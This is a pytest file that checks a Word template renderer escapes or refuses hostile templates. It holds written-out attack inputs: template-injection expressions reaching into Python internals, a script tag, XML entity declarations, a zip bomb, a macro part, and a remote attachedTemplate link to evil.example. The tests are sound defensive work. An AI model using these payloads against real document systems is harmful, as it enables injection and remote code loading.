"""An office's own Word template: kept edits, and what is refused."""

import re
import zipfile
from io import BytesIO

import pytest
from docx import Document as open_document  # noqa: N813 -- docx.Document is a function
from docx.shared import Mm, Pt

from signalmast.reports.renderers.docx import (
    TemplateRefused,
    build_template,
    check_template,
    render_docx,
)
from signalmast.reports.tests.documents import hostile_report, report
from signalmast.reports.tests.word import (
    edited,
    everything,
    millimetres,
    paragraph,
    repacked,
)


@pytest.mark.parametrize("layout", ["decree-30", "plain"])
def test_hostile_words_stay_words(layout):
    text = everything(open_document(BytesIO(render_docx(hostile_report(layout)))))

    for words in ("{{ 7*7 }}", "{% raw %}", "#panic()", "<script>alert('x')</script> &", "</w:t>"):
        assert words in text
    assert re.findall(r"\b49\b", text) == []
    assert "\x1b" not in text


def test_an_edited_template_keeps_its_edits():
    def change(word):
        word.add_paragraph("Điện thoại: 028 0000 0000")
        word.styles["Report Body"].font.size = Pt(13)
        word.sections[0].right_margin = Mm(15)

    template = edited(change)
    check_template(template)
    word = open_document(BytesIO(render_docx(report(), template=template)))

    assert "Điện thoại: 028 0000 0000" in everything(word)
    assert paragraph(word, "Sáu tháng đầu năm").style.font.size == Pt(13)
    assert millimetres(word.sections[0].right_margin) == 15
    assert {millimetres(shape.width) for shape in word.inline_shapes} == {165.0}


def test_a_template_of_one_tag_gets_what_it_lacks():
    word = open_document()
    word.add_paragraph("{{ body }}")
    out = BytesIO()
    word.save(out)

    text = everything(open_document(BytesIO(render_docx(report(), template=out.getvalue()))))

    assert "91.718 lượt" in text
    assert "PHƯƠNG PHÁP TÍNH CÁC CHỈ SỐ" in text


@pytest.mark.parametrize(
    ("tag", "says"),
    [
        ("{{ salary }}", "uses the tag “salary”"),
        ("{{ office", "is not complete"),
        ("{% for x in recipients %}", "is not complete"),
        ("{{ 7 * 7 }}", "calculates or calls"),
        ("{{ 'a' * 999999999 }}", "calculates or calls"),
        ("{{ office.__class__.__mro__ }}", "calculates or calls"),
        ("{{ office | upper }}", "calculates or calls"),
        ("{{ range(10) }}", "calculates or calls"),
        ("{% set office = parent %}", "calculates or calls"),
        ("{% include 'x' %}", "calculates or calls"),
        ("{% for x in office %}{{ x }}{% endfor %}", "may only go over"),
        (
            "{% for x in recipients %}{% for y in recipients %}{{ y }}{% endfor %}{% endfor %}",
            "may only go over",
        ),
    ],
)
@pytest.mark.parametrize("place", ["body", "header"])
def test_a_template_that_does_more_than_name_things_is_refused(tag, says, place):
    def change(word):
        if place == "body":
            word.add_paragraph(tag)
        else:
            word.sections[0].header.add_paragraph(tag)

    with pytest.raises(TemplateRefused, match=says) as refusal:
        check_template(edited(change))

    assert str(refusal.value).endswith(".")


def test_a_template_without_a_place_for_the_text_is_refused():
    def change(word):
        body = paragraph(word, "{{ body }}")
        body._p.getparent().remove(body._p)

    with pytest.raises(TemplateRefused, match="no paragraph that holds only"):
        check_template(edited(change))


@pytest.mark.parametrize(
    "changes",
    [
        {"word/document.xml": b"<broken"},
        {"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'},
        {"word/document.xml": "<x/>".encode("utf-16")},
        {"[Content_Types].xml": b"<x/>"},
        {"word/styles.xml": b"<!ENTITY % x>"},
    ],
)
def test_a_damaged_template_is_refused(changes):
    with pytest.raises(TemplateRefused, match="not a Word document"):
        check_template(repacked(build_template("decree-30", "vi"), changes))


@pytest.mark.parametrize("data", [b"", b"hello", b"PK\x03\x04garbage", b"%PDF-1.7"])
def test_what_is_no_word_document_is_refused(data):
    with pytest.raises(TemplateRefused, match="not a Word document"):
        check_template(data)


def test_a_cut_off_template_is_refused():
    whole = build_template("decree-30", "vi")
    for length in range(0, len(whole), len(whole) // 20):
        with pytest.raises(TemplateRefused, match="not a Word document"):
            check_template(whole[:length])


def test_a_template_with_macros_is_refused():
    template = repacked(build_template("decree-30", "vi"), {"word/vbaProject.bin": b"x"})

    with pytest.raises(TemplateRefused, match="holds macros"):
        check_template(template)


def test_a_template_that_loads_from_outside_is_refused():
    relations = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotx" '
        b'TargetMode="External"/></Relationships>'
    )
    template = repacked(
        build_template("decree-30", "vi"), {"word/_rels/settings.xml.rels": relations}
    )

    with pytest.raises(TemplateRefused, match="loads something from outside"):
        check_template(template)


def test_a_template_that_unpacks_without_end_is_refused():
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"0" * 31 * 1024 * 1024)

    with pytest.raises(TemplateRefused, match="more than 30 MB"):
        check_template(out.getvalue())


def test_tags_in_the_properties_are_not_read():
    def change(word):
        word.core_properties.author = "{{ 7*7 }}"
        word.core_properties.keywords = "{{ office.__class__ }}"

    word = open_document(BytesIO(render_docx(report(), template=edited(change))))

    assert (word.core_properties.author, word.core_properties.keywords) == (
        "Phòng Truyền thông",
        "",
    )
